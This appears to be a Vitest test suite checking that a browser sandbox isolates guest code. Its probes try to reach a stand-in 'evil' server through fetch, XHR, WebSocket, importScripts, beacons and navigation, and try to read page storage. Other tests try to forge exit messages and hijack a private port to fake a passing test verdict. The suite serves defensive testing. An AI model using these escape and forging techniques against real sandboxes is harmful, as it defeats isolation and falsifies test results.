/** What guest code can reach: the same probes in the sandbox's frame and, as a control, in a plain worker of the page. */
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import { drain } from '../../src/lib/stream';
import { sandboxes } from '../../src/sandboxes';
import type { Sandbox } from '../../src/types';
import { PATIENCE } from '../patience';

const evil = inject('evil');
const own = location.origin;

/** Runs in a worker: tries everything, tells what worked. */
const probes = `
const evil = ${JSON.stringify(evil)}, own = ${JSON.stringify(own)};
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const event = (target, good, bad) => new Promise((resolve, reject) => { target['on' + good] = () => resolve(true); target['on' + bad] = () => reject(new Error(bad)); setTimeout(() => reject(new Error('silence')), 1500); });
const G = globalThis;
const tries = {
  fetchOther: async () => (await G.fetch(evil + '/fetch')).ok,
  fetchOwn: async () => (await G.fetch(own + '/sandbox.html')).ok,
  xhr: () => { const x = new G.XMLHttpRequest(); x.open('GET', evil + '/xhr', false); x.send(); return x.status === 200; },
  webSocket: async () => { const s = new G.WebSocket(evil.replace('http', 'ws') + '/ws'); await event(s, 'open', 'error').catch(() => {}); await wait(200); return 'attempted'; },
  eventSource: () => event(new G.EventSource(evil + '/event'), 'open', 'error'),
  importScripts: () => { G.importScripts(evil + '/scripts'); return true; },
  dynamicImport: async () => { await import(evil + '/import'); return true; },
  dynamicImportData: async () => { await import('data:text/javascript,export default 1'); return 'harmless'; },
  indexedDB: () => { const open = G.indexedDB.open('protege-probe'); return new Promise((resolve, reject) => { open.onsuccess = () => resolve([...open.result.objectStoreNames].includes('secrets')); open.onerror = () => reject(open.error); }); },
  caches: async () => { await G.caches.keys(); return true; },
  opfs: async () => { await G.navigator.storage.getDirectory(); return true; },
  locks: async () => { await G.navigator.locks.query(); return 'own partition'; },
  broadcast: async () => { new G.BroadcastChannel('protege-probe').postMessage('from ' + G.name); await wait(200); return 'sent'; },
  nestedFetch: () => new Promise((resolve, reject) => { const w = new G.Worker(G.URL.createObjectURL(new G.Blob(["fetch('" + evil + "/nested').then(() => postMessage(true), () => postMessage(false))"]))); w.onmessage = ({ data }) => resolve(data); w.onerror = reject; setTimeout(() => reject(new Error('silence')), 1500); }),
  sharedMemory: () => { new G.SharedArrayBuffer(8); return true; },
  parent: () => Boolean(G.parent?.document || G.top?.location || G.opener),
  document: () => Boolean(G.document),
  localStorage: () => Boolean(G.localStorage),
  rtc: () => { new G.RTCPeerConnection(); return true; },
  navigate: () => { G.location.href = evil + '/navigate'; return 'set'; },
  open: () => Boolean(G.open(evil + '/open')),
  beacon: () => G.navigator.sendBeacon(evil + '/beacon'),
};
const probe = async () => {
  const told = {};
  for (const [name, attempt] of Object.entries(tries)) {
    try { told[name] = await Promise.race([attempt(), wait(2500).then(() => 'silence')]); } catch (error) { told[name] = String(error && error.name || error); }
  }
  await wait(500);
  return told;
};
`;

type Told = Record<string, unknown>;
const hits = async () => (await (await fetch(`${evil}/hits`)).json()) as string[];

/** The real sandbox.html with the probes in place of the shell. */
async function inFrame(): Promise<{ told: Told; frame: HTMLIFrameElement }> {
  const frame = document.createElement('iframe');
  frame.setAttribute('sandbox', 'allow-scripts');
  frame.src = '/sandbox.html';
  const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
  document.body.append(frame);
  await loaded;
  const control = new MessageChannel();
  const calls = new MessageChannel();
  frame.contentWindow?.postMessage(null, '*', [control.port2]);
  const told = new Promise<Told>((resolve) => (calls.port1.onmessage = ({ data }) => resolve(data as Told)));
  const shell = `${probes}; self.onmessage = async ({ data }) => data.port.postMessage(await probe());`;
  control.port1.postMessage({ type: 'start', shell, exec: '' }, [calls.port2, new MessageChannel().port2]);
  return { told: await told, frame };
}

const REACHED = [true];
const reached = (told: Told) =>
  Object.entries(told)
    .filter(([, value]) => REACHED.includes(value as never))
    .map(([name]) => name);

describe('isolation', () => {
  const heard: unknown[] = [];
  const channel = new BroadcastChannel('protege-probe');
  beforeAll(async () => {
    channel.onmessage = ({ data }) => heard.push(data);
    await new Promise<void>((resolve, reject) => {
      const open = indexedDB.open('protege-probe', 1);
      open.onupgradeneeded = () => open.result.createObjectStore('secrets');
      open.onsuccess = () => (open.result.close(), resolve());
      open.onerror = () => reject(open.error!);
    });
    await hits();
  });
  afterAll(() => {
    channel.close();
    indexedDB.deleteDatabase('protege-probe');
  });

  test('control: a plain worker of the page reaches nearly everything', async () => {
    const worker = new Worker(URL.createObjectURL(new Blob([`${probes}; probe().then((told) => postMessage(told));`])));
    const told = await new Promise<Told>((resolve) => (worker.onmessage = ({ data }) => resolve(data as Told)));
    worker.terminate();
    expect(reached(told)).toEqual(
      expect.arrayContaining([
        'fetchOther',
        'fetchOwn',
        'xhr',
        'importScripts',
        'dynamicImport',
        'indexedDB',
        'caches',
        'opfs',
        'nestedFetch',
      ]),
    );
    expect(await hits()).toEqual(
      expect.arrayContaining(['/fetch', '/xhr', '/ws', '/event', '/scripts', '/import', '/nested']),
    );
    expect(heard.splice(0)).toHaveLength(1);
  });

  test('a worker of the frame reaches nothing', async () => {
    const { told, frame } = await inFrame();
    frame.remove();
    expect(reached(told)).toEqual([]);
    expect(await hits()).toEqual([]);
    expect(heard).toEqual([]);
  });

  test('the frame takes one port, and only from its parent', async () => {
    const { frame } = await inFrame();
    const second = new MessageChannel();
    let answered = false;
    second.port1.onmessage = () => (answered = true);
    frame.contentWindow?.postMessage(null, '*', [second.port2]);
    second.port1.postMessage({ type: 'ping' });
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(answered).toBe(false);
    expect(frame.contentDocument).toBeNull();
    frame.remove();
    await hits();
  });

  /** Frames `src` and gives what it, or the page in it, answers first. */
  const framed = async (src: string, how: string): Promise<unknown> => {
    const frame = document.createElement('iframe');
    if (how !== '') frame.setAttribute('sandbox', how);
    const heard = new Promise((resolve) =>
      addEventListener('message', (event) => event.source === frame.contentWindow && resolve(event.data)),
    );
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
    frame.src = src;
    document.body.append(frame);
    await loaded;
    const { port1, port2 } = new MessageChannel();
    const pong = new Promise((resolve) => (port1.onmessage = ({ data }) => resolve(data.type)));
    if (!src.startsWith(evil)) frame.contentWindow?.postMessage(null, '*', [port2]);
    port1.postMessage({ type: 'ping' });
    const silence = new Promise((resolve) => setTimeout(resolve, src.startsWith(evil) ? 10_000 : 400, 'silent'));
    try {
      return await Promise.race([heard, pong, silence]);
    } finally {
      frame.remove();
    }
  };

  test('sandbox.html answers its own site in an opaque origin, and nobody else', async () => {
    expect(await framed('/sandbox.html', 'allow-scripts')).toBe('pong');
    expect(await framed('/sandbox.html', '')).toBe('silent');
    expect(await framed('/sandbox.html', 'allow-scripts allow-same-origin')).toBe('silent');
    for (const how of ['', 'sandbox="allow-scripts"'])
      expect(await framed(`${evil}/frames?${new URLSearchParams({ of: `${own}/sandbox.html`, how })}`, '')).toBe(
        'silent',
      );
  });

  describe('guest code in the sandbox', () => {
    let box: Sandbox;
    beforeAll(async () => {
      box = await (await sandboxes.embedded!.load()).create({});
      await box.reset({ 'probe.js': `${probes}; probe().then((told) => console.log(JSON.stringify(told)));` });
    });
    afterAll(() => box.close());

    test('reaches nothing', async () => {
      const result = await drain(box.exec('node probe.js', { timeoutMs: PATIENCE.fact }));
      expect(result.stdout, result.stderr).toContain('fetchOther');
      expect(reached(JSON.parse(result.stdout.trim().split('\n').pop()!) as Told)).toEqual([]);
      expect(await hits()).toEqual([]);
      expect(heard).toEqual([]);
    });

    test('cannot speak to the page or the shell by itself', async () => {
      const spoof = `const G = globalThis; for (const f of ['postMessage', 'close']) { try { G[f]({ type: 'exit', exitCode: 0, changes: { '/repo/x': 'spoofed' }, dropped: 0 }); } catch {} } setTimeout(() => { console.log('honest'); process.exit(3); }, 200);`;
      await box.write('spoof.js', spoof);
      const result = await drain(box.exec('node spoof.js', { timeoutMs: 5_000 }));
      expect(result.exitCode).not.toBe(0);
      expect(await box.read('x')).toBeUndefined();
    });

    test('does not get hold of the private port in a verdict', async () => {
      const forge = [
        'let port;',
        "const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data');",
        "try { Object.defineProperty(MessageEvent.prototype, 'data', { get() { port ??= this.target; return data.get.call(this); } }); } catch {}",
        "await new Promise((resolve) => exec('true', resolve));",
        "port?.postMessage({ type: 'test', test: { name: 'real', file: 'test/a.test.js', status: 'pass', ms: 1 } });",
        "port?.postMessage({ type: 'runner-done', framework: 'node:test', files: 1 });",
        "port?.postMessage({ type: 'exit', exitCode: 0, changes: {}, dropped: 0 });",
      ];
      await box.write('a.mjs', `import { exec } from 'node:child_process';\n${forge.join('\n')}`);
      await box.write(
        'a.test.mjs',
        "import './a.mjs'; import { test } from 'node:test'; test('real', () => { throw new Error('real failure'); });",
      );
      const { tests, exitCode } = await drain(box.exec('node --test a.test.mjs', { verdict: true, timeoutMs: 60_000 }));
      expect(exitCode).not.toBe(0);
      expect(tests?.tests.map(({ name, status }) => [name, status])).toEqual([['real', 'fail']]);
    });

    test('a heap bomb or a dead frame leaves the page and its files alone', async () => {
      for (const frame of document.querySelectorAll('iframe[title="Sandbox"]'))
        (frame as HTMLIFrameElement).src = 'about:blank';
      await expect(drain(box.exec('sleep 3600'))).rejects.toThrow(/died|ended/);
      expect(Object.keys(await box.files())).toContain('probe.js');
      expect((await drain(box.exec('ls spoof.js'))).stdout).toBe('spoof.js\n');
    });
  });
});
